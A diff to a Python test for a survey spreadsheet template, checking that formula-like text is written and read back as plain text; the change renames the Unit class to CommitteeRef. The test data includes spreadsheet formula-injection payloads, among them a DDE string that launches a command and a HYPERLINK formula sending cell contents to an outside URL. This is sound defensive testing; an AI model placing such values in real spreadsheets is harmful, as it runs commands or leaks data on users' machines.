@@ -1,16 +1,16 @@
 """The survey template writes text that looks like a formula as text, and reads it back unchanged."""
 
-from surveys.excel import META_TOWN_NAME, Unit, read_upload, template_workbook
+from surveys.excel import META_TOWN_NAME, read_upload, template_workbook
 from surveys.spec import META_SHEET
-from surveys.validation import normalize_row
+from surveys.validation import CommitteeRef, normalize_row
 from tests.libreoffice import sheets_as_csv
 from tests.surveys.forms import FORMS, YEAR, form, rows
 from tests.xlsx import assert_no_formula, formula_like_cells
 
 HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
 DDE = "=cmd|' /C calc'!A0"
-TOWN = Unit("XS01", DDE, "town")
-UNITS = [TOWN, Unit("XS01V01", HYPERLINK, "village"), Unit("XS01V02", "+1", "community")]
+TOWN = CommitteeRef("XS01", DDE, "town")
+COMMITTEES = [TOWN, CommitteeRef("XS01V01", HYPERLINK, "village"), CommitteeRef("XS01V02", "+1", "community")]
 
 
 def template() -> bytes:
@@ -19,13 +19,13 @@ def template() -> bytes:
         for name, section in rows(number).items():
             for row in section:
                 if "committee_name" in row:
-                    row["committee_name"] = next(u.name for u in UNITS if u.code == row["committee_code"])
+                    row["committee_name"] = next(u.name for u in COMMITTEES if u.code == row["committee_code"])
             if (number, name) == (1, "main"):
                 section[0]["director_name"] = "-2"
             if (number, name) == (5, "B"):
                 section[0] |= {"name": "@SUM(A1)", "summary": HYPERLINK, "key_figures": DDE}
             values[(number, name)] = [normalize_row(form(number).section(name), r) for r in section]
-    return template_workbook(FORMS, values, year=YEAR, town=TOWN, units=UNITS)
+    return template_workbook(FORMS, values, year=YEAR, town=TOWN, committees=COMMITTEES)
 
 
 def test_no_cell_of_the_template_is_a_formula():
